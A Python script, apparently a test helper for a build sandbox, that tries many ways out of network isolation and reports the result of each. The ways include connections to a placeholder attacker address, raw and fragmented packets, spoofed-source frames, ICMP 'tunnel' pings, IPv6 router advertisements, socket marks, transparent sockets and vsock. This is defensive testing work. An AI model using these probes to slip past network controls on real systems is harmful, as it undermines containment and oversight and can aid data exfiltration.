"""What a hostile build sends: packet-attacks.py 'NAME [ARG...]' ... Each attack runs in a process of its own, one after
the other, and prints what came back as one JSON line. $NAME in an argument is taken from the environment."""

import errno
import json
import os
import socket
import struct
import sys

ATTACKER = "203.0.113.66"
TIMEOUT = 0.7


def told(value):
    print(json.dumps(value))


def attempt(action):
    try:
        return action()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def tcp(address, port, before=lambda s: None, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT)
        before(s)
        s.connect((address, port))
        s.sendall(b"hello attacker")
        return s.recv(100).decode() or "closed"


def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((address, port))
        s.send(b"hello attacker")
        return s.recv(100).decode()


def raw(protocol, payload=b"tunnel" * 4, address=ATTACKER):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        return s.sendto(payload, (address, 0))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def header(source, destination, protocol, length, fragment=0):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + length, 7, fragment, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(destination),
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((ATTACKER, 9))
        return s.getsockname()[0]


def link(name):
    with open("/sys/class/net/%s/address" % name) as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def neighbour():
    with open("/proc/net/arp") as file:
        return bytes.fromhex(file.readlines()[1].split()[3].replace(":", ""))


def frame(kind, packet, destination=None):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind)) as s:
        s.bind(("eth0", kind))
        return s.send((destination or neighbour()) + link("eth0") + struct.pack("!H", kind) + packet)


def udp_datagram(payload=b"hello attacker", port=4444):
    return struct.pack("!HHHH", 5555, port, 8 + len(payload), 0) + payload


def fragments():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    data = udp_datagram(b"x" * 56)
    head = (ATTACKER, 0)
    s.sendto(header("0.0.0.0", ATTACKER, 17, 32, 0x2000) + data[:32], head)
    return s.sendto(header("0.0.0.0", ATTACKER, 17, 32, 4) + data[32:], head)


def echo(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        packet = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"tunnel in a ping"
        packet = packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]
        s.sendto(packet, (address, 0))
        while True:
            data, peer = s.recvfrom(200)
            if data[20] == 0:
                return "reply from " + peer[0]


def v6_frame(next_header, payload, destination):
    packet = struct.pack("!IHBB", 0x60000000, len(payload), next_header, 64)
    packet += socket.inet_pton(socket.AF_INET6, "fe80::2") + socket.inet_pton(socket.AF_INET6, destination)
    return frame(0x86DD, packet + payload)


ATTACKS = {
    "tcp": lambda address, port: tcp(address, int(port)),
    "tcp-mapped": lambda address, port: tcp("::ffff:" + address, int(port), family=socket.AF_INET6),
    "tcp6": lambda address, port: tcp(address, int(port), family=socket.AF_INET6),
    # SO_MARK is 36; CAP_NET_RAW is enough for it since Linux 5.17.
    "tcp-marked": lambda address, port: tcp(address, int(port), lambda s: s.setsockopt(socket.SOL_SOCKET, 36, 1)),
    "tcp-as": lambda uid, address, port: (os.setgroups([]), os.setgid(int(uid)), os.setuid(int(uid)), tcp(address, int(port)))[-1],
    # IP_TRANSPARENT is 19.
    "tcp-transparent": lambda address, port: tcp(address, int(port), lambda s: s.setsockopt(socket.SOL_IP, 19, 1)),
    "udp": lambda address, port: udp(address, int(port)),
    "udp6": lambda address, port: udp(address, int(port), socket.AF_INET6),
    "echo": echo,
    "protocol": lambda number: raw(int(number)),
    "fragments": fragments,
    "spoofed": lambda source: frame(0x0800, header(source, ATTACKER, 17, 22) + udp_datagram()),
    "packet-udp": lambda: frame(0x0800, header(own_address(), ATTACKER, 17, 22) + udp_datagram()),
    "broadcast": lambda: frame(0x0800, header(own_address(), ATTACKER, 17, 22) + udp_datagram(), b"\xff" * 6),
    "packet-v6": lambda: v6_frame(17, udp_datagram(), "2001:db8:66::66"),
    "router-advertisement": lambda: v6_frame(58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), "ff02::1"),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM).fileno(),
}

for attack in sys.argv[1:]:
    name, *arguments = os.path.expandvars(attack).split()
    child = os.fork()
    if child == 0:
        told(attempt(lambda: ATTACKS[name](*arguments)))
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(child, 0)
